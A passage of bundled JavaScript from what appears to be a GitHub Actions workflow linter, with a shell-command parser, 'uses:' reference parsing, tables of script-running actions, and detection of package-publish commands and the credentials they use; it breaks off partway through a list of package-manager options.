var WORD_SPECIAL = new Uint8Array(128);
for (const c of " 	\n\r;|()&<>$`'\"\\") WORD_SPECIAL[c.charCodeAt(0)] = 1;
var OPENS_PAREN_WORD = new Uint8Array(128);
for (const c of "$<>=@?*+!") OPENS_PAREN_WORD[c.charCodeAt(0)] = 1;
var IN_DOUBLE_QUOTES_SPECIAL = new Uint8Array(128);
for (const c of '"\\$') IN_DOUBLE_QUOTES_SPECIAL[c.charCodeAt(0)] = 1;
function parseShell(text) {
  return shellMemo.get(text);
}
var shellMemo = new TextMemo(splitShell);
function splitShell(text) {
  const commands = [];
  new Reader(text, 0, text.length, commands, false).run();
  commands.sort((a, b) => a.span.start - b.span.start);
  let pipeline = -1;
  let line = 0;
  let counted = 0;
  for (let i = 0; i < commands.length; i++) {
    const command = commands[i];
    if (command.connector !== "|" || i === 0) pipeline++;
    command.pipeline = pipeline;
    for (let nl = text.indexOf("\n", counted); nl !== -1 && nl < command.span.start; nl = text.indexOf("\n", nl + 1)) {
      line++;
      counted = nl + 1;
    }
    command.line = line;
  }
  return { text, commands };
}
var Reader = class _Reader {
  constructor(text, from, end, out, inSubstitution, depth = 0) {
    this.text = text;
    this.end = end;
    this.out = out;
    this.inSubstitution = inSubstitution;
    this.depth = depth;
    this.pos = from;
  }
  text;
  end;
  out;
  inSubstitution;
  depth;
  pos;
  words = [];
  redirects = [];
  heredocs = [];
  pendingHeredocs = [];
  connector = "start";
  start = -1;
  last = null;
  run() {
    const { text, end } = this;
    while (this.pos < end) {
      const c = text.charCodeAt(this.pos);
      const next = text.charCodeAt(this.pos + 1);
      if (c === 32 || c === 9 || c === 13) {
        this.pos++;
      } else if (c === 92 && next === 10) {
        this.pos += 2;
      } else if (c === 92 && next === 13 && text.charCodeAt(this.pos + 2) === 10) {
        this.pos += 3;
      } else if (c === 10) {
        this.finish("newline");
        this.pos++;
        this.readHeredocBodies();
      } else if (c === 35) {
        const lineEnd = text.indexOf("\n", this.pos);
        this.pos = lineEnd === -1 || lineEnd > end ? end : lineEnd;
      } else if (c === 59) {
        this.finish(";");
        this.pos += next === 59 ? 2 : 1;
      } else if (c === 38 && next === 38) {
        this.finish("&&");
        this.pos += 2;
      } else if (c === 124 && next === 124) {
        this.finish("||");
        this.pos += 2;
      } else if (c === 124) {
        this.finish("|", true);
        this.pos += next === 38 ? 2 : 1;
      } else if (c === 38 && next !== 62) {
        this.finish("&");
        this.pos++;
      } else if ((c === 40 || c === 41) && !(c === 40 && next === 40)) {
        this.finish(";");
        this.pos++;
      } else if (this.atRedirection()) {
        this.readRedirection();
      } else {
        const word = this.readWord();
        if (word) {
          if (this.start < 0) this.start = word.span.start;
          this.words.push(word);
        } else {
          this.pos++;
        }
      }
    }
    this.finish("newline");
  }
  atRedirection() {
    const first = this.text.charCodeAt(this.pos);
    if (!(first >= 48 && first <= 57 || first === 60 || first === 62 || first === 38)) return false;
    const rest = this.text.slice(this.pos, this.pos + 4);
    return /^(\d*(>>|>&|>\||>|<<<|<<-|<<|<&|<>|<)|&>>|&>)/.test(rest) && !/^<\(|^>\(/.test(rest);
  }
  readRedirection() {
    const match = /^(\d*(>>|>&|>\||>|<<<|<<-|<<|<&|<>|<)|&>>|&>)/.exec(this.text.slice(this.pos, this.pos + 4));
    const op = match[0];
    const opStart = this.pos;
    if (this.start < 0) this.start = opStart;
    this.pos += op.length;
    while (this.pos < this.end && (this.text[this.pos] === " " || this.text[this.pos] === "	")) this.pos++;
    const target = this.readWord();
    const span = { start: opStart, end: target ? target.span.end : this.pos };
    if (/<<-?$/.test(op) && !op.endsWith("<<<") && target) {
      const quoted = target.quoted || target.raw.includes("\\");
      this.pendingHeredocs.push({ delimiter: target.text, quoted, strip: op.endsWith("-"), command: null });
    }
    this.redirects.push({ op, target, span });
  }
  /** Reads one word at `pos` (quotes, escapes, expansions included); null when nothing word-like is there. */
  readWord() {
    const { text, end } = this;
    const start = this.pos;
    let value = "";
    let quoted = false;
    while (this.pos < end) {
      const c = text.charCodeAt(this.pos);
      const next = text.charCodeAt(this.pos + 1);
      if (c === 32 || c === 9 || c === 10 || c === 13 || c === 59 || c === 124 || c === 41 || c === 40) {
        if (c === 40 && this.pos > start && OPENS_PAREN_WORD[text.charCodeAt(this.pos - 1)] === 1) {
          const close = this.matchParen(this.pos);
          this.substitution(this.pos + 1, close);
          value += text.slice(this.pos, Math.min(close + 1, end));
          this.pos = Math.min(close + 1, end);
          continue;
        }
        if (c === 40 && this.pos === start && next === 40) {
          const close = this.matchParen(this.pos);
          value += text.slice(this.pos, Math.min(close + 1, end));
          this.pos = Math.min(close + 1, end);
          continue;
        }
        break;
      }
      if (c === 38) break;
      if ((c === 60 || c === 62) && next !== 40) break;
      if (c === 36 && next === 123 && text.charCodeAt(this.pos + 2) === 123) {
        const close = text.indexOf("}}", this.pos + 3);
        const stop2 = close < 0 || close >= end ? end : close + 2;
        value += text.slice(this.pos, stop2);
        this.pos = stop2;
      } else if ((c === 36 || c === 60 || c === 62) && next === 40) {
        const close = this.matchParen(this.pos + 1);
        this.substitution(this.pos + 2, close);
        value += text.slice(this.pos, Math.min(close + 1, end));
        this.pos = Math.min(close + 1, end);
      } else if (c === 36 && next === 123) {
        const close = text.indexOf("}", this.pos + 2);
        const stop2 = close < 0 || close >= end ? end : close + 1;
        value += text.slice(this.pos, stop2);
        this.pos = stop2;
      } else if (c === 96) {
        let close = this.pos + 1;
        while (close < end && text.charCodeAt(close) !== 96) close += text.charCodeAt(close) === 92 ? 2 : 1;
        this.substitution(this.pos + 1, Math.min(close, end));
        value += text.slice(this.pos, Math.min(close + 1, end));
        this.pos = Math.min(close + 1, end);
      } else if (c === 39) {
        quoted = true;
        const close = text.indexOf("'", this.pos + 1);
        const stop2 = close < 0 || close >= end ? end : close;
        value += text.slice(this.pos + 1, stop2);
        this.pos = Math.min(stop2 + 1, end);
      } else if (c === 34) {
        quoted = true;
        this.pos++;
        while (this.pos < end) {
          const d = text.charCodeAt(this.pos);
          if (d === 34) break;
          if (d === 92 && this.pos + 1 < end) {
            const escaped = text.charCodeAt(this.pos + 1);
            if (escaped === 10) {
              this.pos += 2;
              continue;
            }
            value += escaped === 36 || escaped === 96 || escaped === 34 || escaped === 92 ? text[this.pos + 1] : text.slice(this.pos, this.pos + 2);
            this.pos += 2;
          } else if (d === 36 && text.charCodeAt(this.pos + 1) === 40) {
            const close = this.matchParen(this.pos + 1);
            this.substitution(this.pos + 2, close);
            value += text.slice(this.pos, Math.min(close + 1, end));
            this.pos = Math.min(close + 1, end);
          } else if (d === 36 && text.charCodeAt(this.pos + 1) === 123 && text.charCodeAt(this.pos + 2) === 123) {
            const close = text.indexOf("}}", this.pos + 3);
            const stop2 = close < 0 || close >= end ? end : close + 2;
            value += text.slice(this.pos, stop2);
            this.pos = stop2;
          } else {
            const from = this.pos;
            this.pos++;
            while (this.pos < end && IN_DOUBLE_QUOTES_SPECIAL[text.charCodeAt(this.pos)] !== 1) this.pos++;
            value += text.slice(from, this.pos);
          }
        }
        this.pos = Math.min(this.pos + 1, end);
      } else if (c === 92) {
        if (next === 10) {
          this.pos += 2;
          break;
        }
        value += text[this.pos + 1] ?? "";
        this.pos += 2;
      } else {
        const from = this.pos;
        this.pos++;
        while (this.pos < end && WORD_SPECIAL[text.charCodeAt(this.pos)] !== 1) this.pos++;
        value += text.slice(from, this.pos);
      }
    }
    if (this.pos === start) return null;
    const stop = Math.min(this.pos, end);
    return { text: value, raw: text.slice(start, stop), span: { start, end: stop }, quoted };
  }
  /** Offset of the `)` matching the `(` at `open` (quotes skipped); `end` when unbalanced. */
  matchParen(open) {
    const { text, end } = this;
    let depth = 0;
    for (let i = open; i < end; i++) {
      const c = text[i];
      if (c === "\\") i++;
      else if (c === "'") {
        const close = text.indexOf("'", i + 1);
        if (close < 0) return end;
        i = close;
      } else if (c === "(") depth++;
      else if (c === ")" && --depth === 0) return i;
    }
    return end;
  }
  substitution(from, to) {
    if (this.depth > 16 || to <= from) return;
    new _Reader(this.text, from, Math.min(to, this.end), this.out, true, this.depth + 1).run();
  }
  finish(next, pipesTo = false) {
    if (this.words.length > 0 || this.redirects.length > 0) {
      const command = buildCommand(
        this.words,
        this.redirects,
        this.heredocs,
        this.start,
        this.lastEnd(),
        this.connector,
        this.inSubstitution
      );
      command.pipesTo = pipesTo;
      for (const pending of this.pendingHeredocs) if (!pending.command) pending.command = command;
      this.out.push(command);
      this.last = command;
      this.connector = next;
    } else if (next === "|" || next === "&&" || next === "||") {
      this.connector = next;
    } else if (this.connector === "start" || next !== "newline") {
      this.connector = this.last ? next : "start";
    } else {
      this.connector = "newline";
    }
    if (pipesTo) this.connector = "|";
    this.words = [];
    this.redirects = [];
    this.heredocs = [];
    this.start = -1;
  }
  lastEnd() {
    let end = this.start;
    for (const word of this.words) end = Math.max(end, word.span.end);
    for (const redirect of this.redirects) end = Math.max(end, redirect.span.end);
    return end;
  }
  /** After a newline: skips (and records) the bodies of the heredocs opened on the line just ended. */
  readHeredocBodies() {
    const pending = this.pendingHeredocs;
    this.pendingHeredocs = [];
    for (const heredoc of pending) {
      const bodyStart = this.pos;
      let bodyEnd = this.end;
      let after = this.end;
      while (this.pos < this.end) {
        let lineEnd = this.text.indexOf("\n", this.pos);
        if (lineEnd < 0 || lineEnd > this.end) lineEnd = this.end;
        let line = this.text.slice(this.pos, lineEnd).replace(/\r$/, "");
        if (heredoc.strip) line = line.replace(/^\t+/, "");
        if (line.trim() === heredoc.delimiter) {
          bodyEnd = this.pos;
          after = Math.min(lineEnd + 1, this.end);
          break;
        }
        this.pos = lineEnd + 1;
      }
      this.pos = Math.min(after, this.end);
      const record = {
        delimiter: heredoc.delimiter,
        quoted: heredoc.quoted,
        body: this.text.slice(bodyStart, bodyEnd),
        bodySpan: { start: bodyStart, end: bodyEnd }
      };
      heredoc.command?.heredocs.push(record);
    }
  }
};

// server/src/knowledge/shell/arguments.ts
function args(command) {
  return command.argv.slice(1);
}
function flagValue(command, ...flags) {
  const list = args(command);
  for (let i = 0; i < list.length; i++) {
    const text = list[i].text;
    if (flags.includes(text)) return list[i + 1] ?? null;
    for (const flag of flags) {
      if (flag.startsWith("--") && text.startsWith(`${flag}=`)) {
        const word = list[i];
        const cut = flag.length + 1;
        return {
          text: text.slice(cut),
          raw: word.raw,
          span: { start: word.span.start + Math.min(cut, word.raw.length), end: word.span.end },
          quoted: word.quoted
        };
      }
    }
  }
  return null;
}
function positionals(command) {
  return args(command).filter((word) => !word.text.startsWith("-"));
}
function pipedInto(script, command) {
  if (!command.pipesTo) return null;
  const index = script.commands.indexOf(command);
  for (let i = index + 1; i < script.commands.length; i++) {
    const next = script.commands[i];
    if (next.inSubstitution !== command.inSubstitution) continue;
    return next.pipeline === command.pipeline ? next : null;
  }
  return null;
}

// server/src/parse/strings.ts
var isLineTerminator = (ch) => ch === "\n" || ch === "\r" || ch === "\u2028" || ch === "\u2029";
function trimEndOf(text, chars) {
  let end = text.length;
  while (end > 0 && chars.includes(text[end - 1])) end--;
  return end === text.length ? text : text.slice(0, end);
}
function trimEndOfSpaceAnd(text, chars) {
  let end = text.length;
  while (end > 0 && (chars.includes(text[end - 1]) || /\s/.test(text[end - 1]))) end--;
  return end === text.length ? text : text.slice(0, end);
}
function cutFromFirst(text, chars) {
  let lastLine = 0;
  for (let i = text.length - 1; i >= 0; i--) {
    if (isLineTerminator(text[i])) {
      lastLine = i + 1;
      break;
    }
  }
  for (let i = lastLine; i < text.length; i++) if (chars.includes(text[i])) return text.slice(0, i);
  return text;
}
function replaceExpressionFences(text, replacement) {
  let out = "";
  let from = 0;
  for (; ; ) {
    const open = text.indexOf("${{", from);
    if (open === -1) break;
    const close = text.indexOf("}}", open + 3);
    if (close === -1) break;
    out += text.slice(from, open) + replacement;
    from = close + 2;
  }
  return from === 0 ? text : out + text.slice(from);
}
function wildcardMatch(pattern, text) {
  let p = 0;
  let t = 0;
  let star = -1;
  let resume = 0;
  while (t < text.length) {
    if (p < pattern.length && pattern[p] === "*") {
      star = p++;
      resume = t;
    } else if (p < pattern.length && pattern[p] === text[t]) {
      p++;
      t++;
    } else if (star !== -1) {
      p = star + 1;
      t = ++resume;
    } else {
      return false;
    }
  }
  while (p < pattern.length && pattern[p] === "*") p++;
  return p === pattern.length;
}
function joinLines(text) {
  return text.replace(/\s+/g, (run2) => run2.includes("\n") ? " " : run2);
}

// server/src/parse/uses.ts
var SHA_RE = /^[0-9a-f]{40}$/;
var SHORT_SHA_RE = /^[0-9a-f]{7,39}$/;
var VERSION_RE = /^v?\d+(\.\d+){0,3}([-+][0-9A-Za-z.+-]+)?$/;
function classifyRef(ref2) {
  if (ref2.includes("${{")) return "expression";
  if (SHA_RE.test(ref2)) return "sha";
  if (SHORT_SHA_RE.test(ref2) && !VERSION_RE.test(ref2)) return "short-sha";
  if (VERSION_RE.test(ref2)) return "version";
  return "branch-like";
}
function isWorkflowPath(path) {
  return /^\.github\/workflows\/[^/]+\.ya?ml$/.test(path);
}
function parseUses(value) {
  return typeof value === "string" ? usesMemo.get(value) : readUses(value);
}
var usesMemo = new TextMemo(readUses, 2048, 1024);
function readUses(value) {
  const text = value.trim();
  if (text === "") return { kind: "invalid", reason: "empty `uses:`" };
  if (text.startsWith("docker://")) return parseDocker(text.slice("docker://".length));
  if (text.startsWith("./") || text === ".") {
    return { kind: "local", path: text, isReusableWorkflow: isWorkflowPath(text.replace(/^\.\//, "")) };
  }
  if (text.startsWith("$/")) {
    const path = text.slice(2);
    return { kind: "self", path, isReusableWorkflow: isWorkflowPath(cutFromFirst(path, "@")) };
  }
  const leading = value.length - value.trimStart().length;
  const at = text.indexOf("@");
  const target = at === -1 ? text : text.slice(0, at);
  if (/\s/.test(target)) return { kind: "invalid", reason: `\`${text}\` contains white space before the \`@\`` };
  const segments = target.split("/");
  if (segments.length < 2 || segments[0] === "" || segments[1] === "") {
    return { kind: "invalid", reason: `\`${text}\` is not \`owner/repo@ref\`, \`./path\` or \`docker://image\`` };
  }
  const [owner, repo, ...rest] = segments;
  const subpath = rest.length > 0 ? rest.join("/") : null;
  const ref2 = at === -1 ? null : text.slice(at + 1);
  return {
    kind: "remote",
    owner,
    repo,
    subpath,
    repository: `${owner}/${repo}`,
    isReusableWorkflow: subpath !== null && isWorkflowPath(subpath),
    ref: ref2,
    refKind: ref2 === null || ref2 === "" ? null : classifyRef(ref2),
    refStart: leading + (at === -1 ? text.length : at + 1),
    refEnd: leading + text.length
  };
}
function parseDocker(image) {
  const { name, tag, digest } = parseImage(image);
  return { kind: "docker", image: name, tag, digest };
}
function parseImage(text) {
  let rest = text.trim();
  let digest = null;
  const at = rest.indexOf("@");
  if (at !== -1) {
    digest = rest.slice(at + 1);
    rest = rest.slice(0, at);
  }
  const slash = rest.lastIndexOf("/");
  const colon = rest.lastIndexOf(":");
  let tag = null;
  if (colon > slash) {
    tag = rest.slice(colon + 1);
    rest = rest.slice(0, colon);
  }
  return { name: rest, tag, digest };
}
function usesTarget(uses) {
  return uses.subpath ? `${uses.repository}/${uses.subpath}` : uses.repository;
}

// server/src/knowledge/action-lookup.ts
function lowerTarget(owner, repo, path) {
  return `${owner}/${repo}${path ? `/${path}` : ""}`.toLowerCase();
}
function findAction(table, owner, repo, path) {
  const full = lowerTarget(owner, repo, path);
  const base2 = lowerTarget(owner, repo, null);
  return table.find((entry) => entry.action === full) ?? table.find((entry) => entry.action === base2);
}

// server/src/knowledge/script-inputs.ts
var VM_SOURCE = (os, tag) => `vmactions/${os}-vm@${tag} action.yml: \`prepare\` "Install some tools before CI runs", \`run\` "The CI command to run"; \`usesh\` "Deprecated and ignored. The prepare/run scripts are always executed with sh." Both run in the VM over SSH.`;
var SCRIPT_INPUTS = [
  {
    action: "appleboy/ssh-action",
    inputs: ["script"],
    shell: "sh",
    place: { default: "remote" },
    source: 'appleboy/ssh-action@v1.2.5 action.yml: `script` "Commands to execute on the remote server (inline script string)"; README: "Commands to execute remotely". (`script_path` is a path, `envs` a list of names.)'
  },
  {
    action: "uraimo/run-on-arch-action",
    inputs: ["run", "install", "setup"],
    shell: "bash",
    shellInput: "shell",
    place: { default: "container", setup: "runner" },
    source: 'uraimo/run-on-arch-action@v3.1.0 action.yml and README: `run` "Shell commands to execute in the container", `install` "Shell commands to execute in the container as part of docker build", `setup` "Shell commands to execute on the host before running the container"; `shell` defaults to /bin/sh on Alpine, /bin/bash otherwise.'
  },
  {
    action: "addnab/docker-run-action",
    inputs: ["run"],
    shell: "sh",
    shellInput: "shell",
    place: { default: "container" },
    source: 'addnab/docker-run-action@v3 action.yml: `run` "Run command in container", `shell` "Use a specific shell" (default `sh`). (`options` are `docker run` flags, not a script.)'
  },
  {
    action: "vmactions/freebsd-vm",
    inputs: ["prepare", "run"],
    shell: "sh",
    place: { default: "vm" },
    source: VM_SOURCE("freebsd", "v1.5.4")
  },
  {
    action: "vmactions/openbsd-vm",
    inputs: ["prepare", "run"],
    shell: "sh",
    place: { default: "vm" },
    source: VM_SOURCE("openbsd", "01dd796")
  },
  {
    action: "vmactions/solaris-vm",
    inputs: ["prepare", "run"],
    shell: "sh",
    place: { default: "vm" },
    source: VM_SOURCE("solaris", "02232a7")
  },
  {
    action: "vmactions/netbsd-vm",
    inputs: ["prepare", "run"],
    shell: "sh",
    place: { default: "vm" },
    source: VM_SOURCE("netbsd", "0e97b7d")
  },
  {
    action: "vmactions/dragonflybsd-vm",
    inputs: ["prepare", "run"],
    shell: "sh",
    place: { default: "vm" },
    source: 'vmactions/dragonflybsd-vm@1bfb23f action.yml: `prepare` "Install some tools before CI runs", `run` "The CI command to run" (required); `usesh` "Use sh instead of the default shell: csh". Read as sh: the commands that matter here (downloads, installs) read the same in csh.'
  }
];
function scriptInputsFor(owner, repo, path) {
  return findAction(SCRIPT_INPUTS, owner, repo, path);
}
function placeOf(entry, input2) {
  return entry.place[input2] ?? entry.place.default;
}

// server/src/knowledge/shell/run-scripts.ts
function scalarOffsetMapper(node, source) {
  const span = nodeSpan(node);
  if (!node || !span || !isScalar(node)) return () => span?.start ?? 0;
  const scalar = node;
  const value = typeof scalar.value === "string" ? scalar.value : null;
  const clampToken = (offset) => Math.max(span.start, Math.min(offset, span.end));
  if (value === null) return () => span.start;
  if (scalar.type === "BLOCK_LITERAL") {
    const header = source.indexOf("\n", span.start);
    if (header < 0) return () => span.start;
    const lineStarts = [];
    const valueLines = value.split("\n");
    let cursor = header + 1;
    let indent = -1;
    for (let k = 0; k < valueLines.length; k++) {
      if (cursor > source.length) break;
      let lineEnd = source.indexOf("\n", cursor);
      if (lineEnd < 0) lineEnd = source.length;
      const line = source.slice(cursor, lineEnd).replace(/\r$/, "");
      if (indent < 0 && valueLines[k].length > 0) {
        indent = line.length - valueLines[k].length;
        if (indent < 0 || line.slice(indent) !== valueLines[k]) return clampToken;
      }
      lineStarts.push(cursor);
      cursor = lineEnd + 1;
    }
    const firstIndent = Math.max(indent, 0);
    const valueIndex = new LineIndex(value);
    return (offset) => {
      const line = valueIndex.lineAt(offset);
      const lineStart = lineStarts[line];
      if (lineStart === void 0) return span.end;
      return Math.min(lineStart + firstIndent + (offset - valueIndex.lineStarts[line]), source.length);
    };
  }
  const quoted = scalar.type === "QUOTE_DOUBLE" || scalar.type === "QUOTE_SINGLE";
  const start = quoted ? span.start + 1 : span.start;
  if (source.startsWith(value, start)) return (offset) => start + offset;
  return clampToken;
}
function shellOf(step, job, file) {
  const own = step.shell?.value;
  if (own) return own;
  const jobShell = job?.child("defaults").child("run").string("shell")?.value;
  if (jobShell) return jobShell;
  return file.workflow?.child("defaults").child("run").string("shell")?.value ?? "";
}
var cache = new AttachedCache("run-scripts", attachmentsOf);
function runScripts(file) {
  const cached = cache.get(file);
  if (cached) return cached;
  const scripts = [];
  const push = (entry, step, job, shell, input2) => {
    if (!entry.value || !isScalar(entry.value)) return;
    const value = entry.value.value;
    if (typeof value !== "string") return;
    const scalar = entry.value;
    let mapper;
    const map2 = (offset) => (mapper ??= scalarOffsetMapper(scalar, file.text))(offset);
    scripts.push({
      entry,
      ...input2 ? { input: input2 } : {},
      step,
      job,
      script: parseShell(value),
      shell,
      toSource: map2,
      sourceSpan: (span) => {
        const start = map2(span.start);
        const end = map2(span.end);
        return { start, end: Math.max(start, end) };
      }
    });
  };
  const add = (step, job) => {
    const entry = step.run;
    if (entry) {
      push(entry, step, job, shellOf(step, job, file));
      return;
    }
    const uses = scalarText(step.uses?.value ?? null);
    if (!uses) return;
    const reference = parseUses(uses);
    if (reference.kind !== "remote") return;
    const known = scriptInputsFor(reference.owner, reference.repo, reference.subpath);
    if (!known) return;
    const inputs = step.with.entries;
    const shellEntry = known.shellInput ? inputs.find((e) => e.key.toLowerCase() === known.shellInput) : void 0;
    const shell = shellEntry && scalarText(shellEntry.value)?.trim().replace(/^.*\//, "") || known.shell;
    for (const input2 of inputs) {
      const name = input2.key.toLowerCase();
      if (!known.inputs.includes(name)) continue;
      push(input2, step, job, shell, { action: reference.repository, input: input2.key, place: placeOf(known, name) });
    }
  };
  try {
    if (file.workflow) for (const job of file.workflow.jobs) for (const step of job.steps) add(step, job);
    if (file.action) for (const step of file.action.steps) add(step, null);
  } catch {
  }
  cache.set(file, scripts);
  return scripts;
}
var byJobCache = new AttachedCache("run-scripts-by-job", attachmentsOf);
function runScriptsOf(file, job) {
  let byJob = byJobCache.get(file);
  if (!byJob) {
    byJob = /* @__PURE__ */ new Map();
    for (const script of runScripts(file)) {
      const list = byJob.get(script.job);
      if (list) list.push(script);
      else byJob.set(script.job, [script]);
    }
    byJobCache.set(file, byJob);
  }
  return byJob.get(job)?.slice() ?? [];
}

// server/src/knowledge/publishers.ts
var PUBLISHER_ACTIONS = [
  { name: "pypa/gh-action-pypi-publish", registry: "pypi" },
  { name: "js-devtools/npm-publish", registry: "npm" },
  { name: "rubygems/release-gem", registry: "rubygems" },
  { name: "rubygems/configure-rubygems-credentials", registry: "rubygems" },
  { name: "katyo/publish-crates", registry: "crates.io" },
  { name: "rust-lang/crates-io-auth-action", registry: "crates.io" },
  { name: "goreleaser/goreleaser-action", registry: "github-release" },
  { name: "softprops/action-gh-release", registry: "github-release" },
  { name: "ncipollo/release-action", registry: "github-release" },
  { name: "svenstaro/upload-release-action", registry: "github-release" },
  { name: "docker/build-push-action", registry: "container", when: "push" },
  { name: "changesets/action", registry: "npm", when: "publish" },
  { name: "actions/attest-build-provenance", registry: "other" },
  { name: "actions/attest", registry: "other" },
  { name: "sigstore/gh-action-sigstore-python", registry: "other" },
  { name: "actions/deploy-pages", registry: "pages" },
  { name: "peaceiris/actions-gh-pages", registry: "pages" },
  { name: "jamesives/github-pages-deploy-action", registry: "pages" }
];
var byName = new Map(PUBLISHER_ACTIONS.map((action) => [action.name, action]));
function publisherAction(name) {
  return byName.get(name.toLowerCase());
}
var PYTHON_LAUNCHERS = /* @__PURE__ */ new Set(["python", "python3", "py", "uvx", "pipx", "uv", "poetry", "pdm", "hatch"]);
var recognised = new AttachedCache("publish-command");
function publishCommand(command) {
  let known = recognised.get(command);
  if (known === void 0) recognised.set(command, known = recognisePublishCommand(command));
  return known;
}
var FIRST_WORDS = /* @__PURE__ */ new Set([
  ...PYTHON_LAUNCHERS,
  "npx",
  "bunx",
  "bundle",
  "cargo",
  "twine",
  "flit",
  "maturin",
  "gem",
  "npm",
  "pnpm",
  "bun",
  "yarn",
  "lerna",
  "changeset",
  "nuget",
  "nuget.exe",
  "dotnet",
  "mvn",
  "mvnw",
  "gradle",
  "gradlew",
  "docker",
  "podman",
  "gh",
  "goreleaser",
  "vsce",
  "ovsx"
]);
function withoutVersion(name) {
  for (let i = 1; i < name.length; i++) if ("=<>~!@[".includes(name[i])) return name.slice(0, i);
  return name;
}
function recognisePublishCommand(command) {
  if (!FIRST_WORDS.has(command.name) && !command.name.startsWith("python")) return null;
  let words2 = command.argv.map((word) => word.text);
  for (let guard = 0; guard < 3 && words2.length > 1; guard++) {
    const head = words2[0].replace(/^.*[\\/]/, "").toLowerCase();
    if ((head.startsWith("python") || head === "py") && words2[1] === "-m") words2 = words2.slice(2);
    else if (head === "bundle" && words2[1] === "exec" && words2[2]) words2 = words2.slice(2);
    else if (PYTHON_LAUNCHERS.has(head) && words2[1] === "run" && words2[2] && !words2[2].startsWith("-")) words2 = words2.slice(2);
    else if ((head === "uvx" || head === "pipx" || head === "npx" || head === "bunx") && words2[1])
      words2 = words2.slice(1).filter((w2, i) => i > 0 || !w2.startsWith("-"));
    else break;
  }
  if (words2.length === 0 || words2.includes("--dry-run") || words2.includes("-n") && words2[0] === "cargo") return null;
  const name = withoutVersion(words2[0].replace(/^.*[\\/]/, "").toLowerCase());
  const sub = (words2[1] ?? "").toLowerCase();
  const sub2 = (words2[2] ?? "").toLowerCase();
  switch (name) {
    case "cargo":
      return sub === "publish" ? { registry: "crates.io", label: "cargo publish", trusted: true } : null;
    case "twine":
      return sub === "upload" ? { registry: "pypi", label: "twine upload", trusted: true } : null;
    case "uv":
    case "hatch":
    case "pdm":
    case "poetry":
    case "flit":
      return sub === "publish" ? { registry: "pypi", label: `${name} publish`, trusted: true } : null;
    case "maturin":
      return sub === "publish" || sub === "upload" ? { registry: "pypi", label: `maturin ${sub}`, trusted: true } : null;
    case "gem":
      return sub === "push" ? { registry: "rubygems", label: "gem push", trusted: true } : null;
    case "npm":
    case "pnpm":
    case "bun":
      return sub === "publish" ? { registry: "npm", label: `${name} publish`, trusted: true } : null;
    case "yarn":
      if (sub === "publish") return { registry: "npm", label: "yarn publish", trusted: true };
      return sub === "npm" && sub2 === "publish" ? { registry: "npm", label: "yarn npm publish", trusted: true } : null;
    case "lerna":
      return sub === "publish" ? { registry: "npm", label: "lerna publish", trusted: true } : null;
    case "changeset":
      return sub === "publish" ? { registry: "npm", label: "changeset publish", trusted: true } : null;
    case "nuget":
    case "nuget.exe":
      return sub === "push" ? { registry: "nuget", label: "nuget push", trusted: true } : null;
    case "dotnet":
      return sub === "nuget" && sub2 === "push" ? { registry: "nuget", label: "dotnet nuget push", trusted: true } : null;
    case "mvn":
    case "mvnw":
      return words2.slice(1).some((w2) => w2 === "deploy" || /:deploy$/.test(w2)) ? { registry: "maven", label: "mvn deploy", trusted: false } : null;
    case "gradle":
    case "gradlew":
      return words2.slice(1).some((w2) => /^(:?[\w-]+:)*publish\w*$/i.test(w2)) ? { registry: "maven", label: "gradle publish", trusted: false } : null;
    case "docker":
    case "podman":
      return sub === "push" || sub === "buildx" && words2.includes("--push") || sub === "image" && sub2 === "push" ? { registry: "container", label: `${name} push`, trusted: false } : null;
    case "gh":
      return sub === "release" && (sub2 === "create" || sub2 === "upload") ? { registry: "github-release", label: `gh release ${sub2}`, trusted: false } : null;
    case "goreleaser":
      return sub === "release" || sub === "" && words2.length === 1 ? { registry: "github-release", label: "goreleaser release", trusted: false } : null;
    case "vsce":
    case "ovsx":
      return sub === "publish" ? { registry: "other", label: `${name} publish`, trusted: false } : null;
    default:
      return null;
  }
}
function inlineCredentialArgs(command) {
  const found = [];
  const list = args(command);
  for (let i = 0; i < list.length; i++) {
    const text = list[i].text;
    const flag = /^(--token|--password|-p|--api-key|-k|--key|-u|--username|--auth-token|--otp)(=.*)?$/.exec(text);
    if (flag) found.push(flag[1]);
  }
  return found;
}
var PUBLISH_SECRET = /PYPI|NPM|TOKEN|PASSWORD|CARGO|RUBYGEMS|NUGET|PUBLISH|DEPLOY|API_KEY/i;
function publishCredentials(file, job) {
  if (!job || !file.workflow) return null;
  if (credentialsCache.has(job)) return credentialsCache.get(job);
  const result = computePublishCredentials(file, job);
  credentialsCache.set(job, result);
  return result;
}
var credentialsCache = new AttachedCache("package-credentials", attachmentsOf);
function computePublishCredentials(file, job) {
  if (!file.workflow) return null;
  const secret = secretReferences(file, job.span).find((reference) => PUBLISH_SECRET.test(reference.name));
  const publishes = job.steps.some((step) => {
    const action = stepAction(file, step);
    return action && publisherAction(action.name);
  }) || runScriptsOf(file, job).some((run2) => run2.script.commands.some((command) => publishCommand(command)));
  if (!publishes) return null;
  if (hasIdTokenWrite(file.workflow, job)) return "`id-token: write`";
  if (secret) return `secret \`${secret.name}\``;
  return null;
}

// server/src/rules/adhoc-packages.ts
var VALUE_OPTIONS = {
  apt: ["-t", "--target-release", "-o", "--option", "-c", "--config-file"],
  pip: [
    "-i",
    "--index-url",
    "--extra-index-url",
    "-f",
    "--find-links",
    "-t",
    "--target",
    "--prefix",
    "--root",
    "--python",
    "--python-version",
    "--platform",
    "--implementation",
    "--abi",
    "--src",
    "--upgrade-strategy",
    "--progress-bar",
    "--cache-dir",
    "--log",
    "--proxy",
    "--retries",
    "--timeout",
    "--exists-action",
    "--trusted-host",
    "--cert",
    "--client-cert",
    "--no-binary",
    "--only-binary",
    "-C",
    "--config-settings",
    "--global-option",
    "--report"
  ],
  pipx: ["--python", "--index-url", "-i", "--pip-args", "--suffix", "--spec"],
  uv: [
    "-p",
    "--python",
    "-i",
    "--index-url",
    "--index",
    "--default-index",
    "--extra-index-url",
    "-f",
    "--find-links",
    "-t",
    "--target",
    "--prefix",
    "--python-version",
    "--python-platform",
    "--index-strategy",
    "--keyring-provider",
    "-C",
    "--config-setting",
    "--resolution",
    "--prerelease",
    "--exclude-newer",
    "--link-mode",
    "--cache-dir",
    "--config-file",
    "--directory",
    "--project",
    "--no-binary",
    "--only-binary",
    "-P",
    "--upgrade-package",
    "--reinstall-package",
    "--no-build-package",
    "--torch-backend",
    "--from",
    "--with-requirements",
    "--with-editable",
    "--overrides"
  ],
  // npm, pnpm, yarn and bun share this list (each spelling's value options; all of them take the next word).
  npm: [
    "--registry",
    "--prefix",
    "--cache",
    "--tag",
    "-w",
    "--workspace",
    "-C",
    "--dir",
    "--cwd",
    "--filter",
